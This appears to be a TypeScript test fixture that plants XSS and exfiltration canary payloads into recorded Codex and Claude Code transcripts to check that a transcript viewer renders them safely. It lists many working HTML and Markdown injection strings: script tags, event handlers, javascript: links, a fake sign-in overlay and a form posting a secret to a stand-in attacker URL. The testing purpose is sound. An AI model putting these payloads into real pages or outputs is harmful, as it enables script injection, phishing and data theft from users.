/**
 * Transcripts written by a hostile agent (or a hostile user): the real recorded Codex rollout and Claude Code
 * session from test/fixtures, with the prompt, the command, its output and the reply swapped for the usual XSS
 * and exfiltration payloads. Every payload is a canary: if it ran, it would set `window.__pwned` to its own
 * name, or request `${attacker}/<its name>` from the test's attacker server.
 */
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { HarnessId } from '../../src/harness/ids.js';

/** Raw HTML payloads, one per paragraph so each is its own Markdown HTML block. */
export function htmlPayloads(attacker: string): string[] {
  const port = new URL(attacker).port;
  return [
    `<script>window.__pwned='script'; fetch('${attacker}/script')</script>`,
    `<img src=x onerror="window.__pwned='img-onerror'; new Image().src='${attacker}/img-onerror'">`,
    `<svg onload="window.__pwned='svg-onload'"><circle r="1"/></svg>`,
    `<svg><script>window.__pwned='svg-script'</script></svg>`,
    `<a href="javascript:window.__pwned='javascript-link'">javascript link</a>`,
    `<a href="JaVaScRiPt:window.__pwned='mixed-case-javascript-link'">mixed-case javascript link</a>`,
    `<a href="&#106;avascript:window.__pwned='entity-javascript-link'">entity javascript link</a>`,
    `<iframe srcdoc="<script>parent.__pwned='iframe-srcdoc'</script>"></iframe>`,
    `<iframe src="${attacker}/iframe"></iframe>`,
    `<a href="data:text/html,<script>opener.__pwned='data-link';fetch('${attacker}/data-link')</script>">data link</a>`,
    `<object data="${attacker}/object"></object>`,
    `<embed src="${attacker}/embed">`,
    `<meta http-equiv="refresh" content="0;url=${attacker}/meta-refresh">`,
    `<base href="${attacker}/base/">`,
    `<link rel="stylesheet" href="${attacker}/link-stylesheet">`,
    `<style>main { visibility: hidden } body::after { content: 'Your session expired: sign in again below'; position: fixed; inset: 0; background: url(${attacker}/style-background) }</style>`,
    `<div style="position: fixed; inset: 0; z-index: 9999; background: url(${attacker}/style-attribute)">an overlay over the whole page</div>`,
    `<details open ontoggle="window.__pwned='details-ontoggle'"><summary>details summary</summary>details body</details>`,
    `<a href="#ping" ping="${attacker}/ping">ping link</a>`,
    `<img srcset="${attacker}/img-srcset 1x" alt="srcset image">`,
    `<video poster="${attacker}/video-poster" src="${attacker}/video" autoplay></video>`,
    `<audio src="${attacker}/audio" autoplay></audio>`,
    `<input type="image" src="${attacker}/input-image">`,
    `<form action="${attacker}/steal" method="post"><input name="secret" value="typed-secret"><button>Send to attacker</button></form>`,
    `<button formaction="${attacker}/formaction">formaction button</button>`,
    `<textarea>typed secrets</textarea><select><option>an option</option></select>`,
    `<a href="${attacker}/html-link" target="_blank">html outside link</a>`,
    `<a href="//127.0.0.1:${port}/protocol-relative-link">protocol-relative link</a>`,
    `<svg><a href="${attacker}/svg-link"><text y="10">svg link</text></a></svg>`,
    `<svg><a xlink:href="${attacker}/svg-xlink"><text y="10">svg xlink</text></a></svg>`,
    `<svg><image href="${attacker}/svg-image"/></svg>`,
    `<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned='mxss'"></style></mglyph></table></mtext></math>`,
  ];
}

/** The payloads a Markdown renderer could turn into links and images. */
export function markdownPayloads(attacker: string): string[] {
  return [
    `[markdown javascript link](javascript:window.__pwned='markdown-javascript-link')`,
    `[markdown outside link](${attacker}/markdown-link)`,
    `![markdown outside image](${attacker}/markdown-image.png)`,
    `<${attacker}/autolink>`,
    `A bare URL: ${attacker}/bare-url`,
  ];
}

/** Shown inside a fenced code block of the reply: must stay visible, as text. */
export const CODE_BLOCK_SCRIPT = `<script>window.__pwned='code-block'</script>`;

export function hostileTitle(attacker: string): string {
  return `<img src=x onerror="window.__pwned='title'"><script>window.__pwned='title-script'</script><a href="${attacker}/title-link">Hostile title</a>`;
}

export interface HostileTurn {
  prompt: string;
  command: string;
  output: string;
  reply: string;
}

export function hostileTurn(attacker: string): HostileTurn {
  const html = htmlPayloads(attacker);
  return {
    prompt: html.join('\n\n'),
    command: `echo ${JSON.stringify(html.slice(0, 4).join(' '))}`,
    output: `${html.join('\n')}\n`,
    reply: ['Here is what I found.', ...html, ...markdownPayloads(attacker), `\`\`\`html\n${CODE_BLOCK_SCRIPT}\n\`\`\``].join('\n\n'),
  };
}

/** A recorded transcript with its turn replaced: the bytes to store, and what the store needs to know. */
export interface PlantedTranscript {
  harness: HarnessId;
  sessionId: string;
  cwd: string;
  cliVersion: string;
  content: Buffer;
  lineCount: number;
}

/** Every string in `value` that equals a key of `replacements` becomes its value (counted in `used`); the rest stays as recorded. */
function replaceStrings(value: unknown, replacements: ReadonlyMap<string, string>, used: Set<string>): unknown {
  if (typeof value === 'string') {
    const replacement = replacements.get(value);
    if (replacement === undefined) return value;
    used.add(value);
    return replacement;
  }
  if (Array.isArray(value)) return value.map((entry) => replaceStrings(entry, replacements, used));
  if (value !== null && typeof value === 'object') return Object.fromEntries(Object.entries(value).map(([key, entry]) => [key, replaceStrings(entry, replacements, used)]));
  return value;
}

function planted(harness: HarnessId, lines: unknown[], replacements: Map<string, string>, meta: Omit<PlantedTranscript, 'harness' | 'content' | 'lineCount'>): PlantedTranscript {
  const used = new Set<string>();
  const content = Buffer.from(`${lines.map((line) => JSON.stringify(replaceStrings(line, replacements, used))).join('\n')}\n`);
  for (const recorded of replacements.keys()) if (!used.has(recorded)) throw new Error(`the ${harness} fixture changed: ${JSON.stringify(recorded)} is not in it`);
  return { harness, content, lineCount: lines.length, ...meta };
}

const FIXTURES = join(import.meta.dirname, '..', 'fixtures');

/** The recorded Codex rollout of a prompt, one exec_command call and a reply (test/fixtures/codex/tool-call). */
export async function hostileCodexRollout(turn: HostileTurn): Promise<PlantedTranscript> {
  const folder = join(FIXTURES, 'codex', 'tool-call');
  const lines: any[] = (await readFile(join(folder, 'rollout-2026-11-26T22-36-35-01a21a00-e515-7ec1-a52c-23e5cb77e528.jsonl'), 'utf8'))
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line));
  const payloads = lines.filter((line) => line.type === 'response_item').map((line) => line.payload);
  const prompt: string = payloads.filter((item) => item.type === 'message' && item.role === 'user').at(-1).content[0].text;
  const reply: string = payloads.find((item) => item.type === 'message' && item.role === 'assistant').content[0].text;
  const call = payloads.find((item) => item.type === 'function_call');
  const output: string = payloads.find((item) => item.type === 'function_call_output').output;
  const header = output.slice(0, output.indexOf('Output:\n') + 'Output:\n'.length);
  const meta = lines[0].payload;
  return planted(
    'codex',
    lines,
    new Map([
      [prompt, turn.prompt],
      [reply, turn.reply],
      [call.arguments, JSON.stringify({ cmd: turn.command })],
      [output, `${header}${turn.output}`],
    ]),
    { sessionId: meta.id, cwd: meta.cwd, cliVersion: meta.cli_version },
  );
}

/** The recorded Claude Code session of a prompt, one Bash call and a reply (test/fixtures/claude/tool-call). */
export async function hostileClaudeSession(turn: HostileTurn): Promise<PlantedTranscript> {
  const file = join(FIXTURES, 'claude', 'tool-call', 'projects', '-tmp-cp-t1-cwd', '11111111-1111-4111-8111-111111111111.jsonl');
  const lines: any[] = (await readFile(file, 'utf8'))
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line));
  const user = lines.find((line) => line.type === 'user' && typeof line.message?.content === 'string');
  const assistants = lines.filter((line) => line.type === 'assistant').map((line) => line.message.content[0]);
  const toolUse = assistants.find((block) => block.type === 'tool_use');
  const text = assistants.find((block) => block.type === 'text');
  const toolResult = lines.find((line) => line.type === 'user' && Array.isArray(line.message?.content)).message.content[0];
  return planted(
    'claude',
    lines,
    new Map([
      [user.message.content, turn.prompt],
      [text.text, turn.reply],
      [toolUse.input.command, turn.command],
      [toolResult.content, turn.output],
    ]),
    { sessionId: user.sessionId, cwd: user.cwd, cliVersion: user.version },
  );
}
